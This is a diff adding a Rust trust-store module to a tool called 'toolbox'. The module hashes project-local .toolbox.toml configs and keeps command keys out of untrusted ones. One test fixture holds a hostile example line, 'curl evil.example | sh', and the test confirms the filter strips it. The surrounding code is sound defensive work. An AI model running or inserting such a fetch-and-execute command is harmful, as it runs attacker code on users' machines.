@@ -0,0 +1,188 @@
+//! Trust of project-local configs
+//!
+//! A `.toolbox.toml` checked into a repository could run arbitrary version
+//! commands on `cd`. Like `direnv allow`, `toolbox trust <dir>` records the
+//! SHA-256 of the project config; a config that isn't trusted, or changed
+//! since it was trusted, only contributes display settings
+//! ([`display_only`]), never commands.
+
+use crate::error::Result;
+use serde::{Deserialize, Serialize};
+use sha2::{Digest, Sha256};
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+
+/// File name of a project-local config
+pub const PROJECT_CONFIG_FILE: &str = ".toolbox.toml";
+
+/// Top-level keys an untrusted project config may set
+pub const DISPLAY_KEYS: &[&str] = &["display", "theme", "themes"];
+
+/// The nearest project config at or above `start`
+pub fn find_project_config(start: &Path) -> Option<PathBuf> {
+    start
+        .ancestors()
+        .map(|dir| dir.join(PROJECT_CONFIG_FILE))
+        .find(|file| file.is_file())
+}
+
+/// The part of an untrusted config that can't run anything
+pub fn display_only(table: toml::Table) -> toml::Table {
+    table
+        .into_iter()
+        .filter(|(key, _)| DISPLAY_KEYS.contains(&key.as_str()))
+        .collect()
+}
+
+/// Project configs the user trusts, by canonical path
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
+pub struct TrustStore {
+    /// Config path -> SHA-256 of its contents when it was trusted
+    pub trusted: BTreeMap<String, String>,
+}
+
+impl TrustStore {
+    /// Default location: `~/.local/share/toolbox/trusted.json`
+    pub fn default_path() -> Option<PathBuf> {
+        dirs::data_dir().map(|p| p.join("toolbox").join("trusted.json"))
+    }
+
+    /// Load a store; a missing file is an empty store
+    pub fn load(path: &Path) -> Result<Self> {
+        match std::fs::read_to_string(path) {
+            Ok(json) => Ok(serde_json::from_str(&json)?),
+            Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(Self::default()),
+            Err(e) => Err(e.into()),
+        }
+    }
+
+    /// Save the store, creating its directory
+    pub fn save(&self, path: &Path) -> Result<()> {
+        if let Some(parent) = path.parent() {
+            std::fs::create_dir_all(parent)?;
+        }
+        std::fs::write(path, serde_json::to_string_pretty(self)?)?;
+        Ok(())
+    }
+
+    /// Trust a config as it is now
+    pub fn trust(&mut self, config: &Path) -> Result<()> {
+        let hash = sha256_hex(&std::fs::read(config)?);
+        self.trusted.insert(key(config), hash);
+        Ok(())
+    }
+
+    /// Stop trusting a config; whether it was trusted
+    pub fn revoke(&mut self, config: &Path) -> bool {
+        self.trusted.remove(&key(config)).is_some()
+    }
+
+    /// Whether a config is trusted and unchanged since
+    pub fn is_trusted(&self, config: &Path) -> bool {
+        let Some(hash) = self.trusted.get(&key(config)) else {
+            return false;
+        };
+        std::fs::read(config).is_ok_and(|contents| sha256_hex(&contents) == *hash)
+    }
+}
+
+/// Store key of a config: its canonical path
+fn key(config: &Path) -> String {
+    config
+        .canonicalize()
+        .unwrap_or_else(|_| config.to_path_buf())
+        .to_string_lossy()
+        .into_owned()
+}
+
+/// SHA-256 of `data` as lowercase hex
+pub fn sha256_hex(data: &[u8]) -> String {
+    Sha256::digest(data)
+        .iter()
+        .map(|byte| format!("{:02x}", byte))
+        .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_sha256_hex() {
+        assert_eq!(
+            sha256_hex(b""),
+            "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
+        );
+        assert_eq!(
+            sha256_hex(b"abc"),
+            "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"
+        );
+        // Two blocks
+        assert_eq!(
+            sha256_hex(b"abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopnopq"),
+            "248d6a61d20638b8e5c026930c3e6039a33ce45964ff2167f6ecedd419db06c1"
+        );
+    }
+
+    #[test]
+    fn test_find_project_config() {
+        let root = tempfile::tempdir().unwrap();
+        let sub = root.path().join("src/app");
+        std::fs::create_dir_all(&sub).unwrap();
+        assert_eq!(find_project_config(&sub), None);
+
+        std::fs::write(root.path().join(PROJECT_CONFIG_FILE), "").unwrap();
+        assert_eq!(
+            find_project_config(&sub),
+            Some(root.path().join(PROJECT_CONFIG_FILE))
+        );
+    }
+
+    #[test]
+    fn test_display_only() {
+        let table: toml::Table = toml::from_str(
+            r#"
+[display]
+compact = true
+
+[theme]
+preset = "nord"
+
+[[custom_tools]]
+name = "Evil"
+command = "curl evil.example | sh"
+
+[sandbox]
+enabled = false
+"#,
+        )
+        .unwrap();
+        let restricted = display_only(table);
+        let keys: Vec<&str> = restricted.keys().map(String::as_str).collect();
+        assert_eq!(keys, vec!["display", "theme"]);
+    }
+
+    #[test]
+    fn test_trust_store() {
+        let dir = tempfile::tempdir().unwrap();
+        let config = dir.path().join(PROJECT_CONFIG_FILE);
+        std::fs::write(&config, "[display]\ncompact = true\n").unwrap();
+        let store_path = dir.path().join("data/trusted.json");
+
+        let mut store = TrustStore::load(&store_path).unwrap();
+        assert!(!store.is_trusted(&config));
+        store.trust(&config).unwrap();
+        assert!(store.is_trusted(&config));
+        store.save(&store_path).unwrap();
+
+        // Survives a reload, until the config changes
+        let store = TrustStore::load(&store_path).unwrap();
+        assert!(store.is_trusted(&config));
+        std::fs::write(&config, "[[custom_tools]]\nname = \"x\"\ncommand = \"x\"\n").unwrap();
+        assert!(!store.is_trusted(&config));
+
+        let mut store = store;
+        assert!(store.revoke(&config));
+        assert!(!store.revoke(&config));
+    }
+}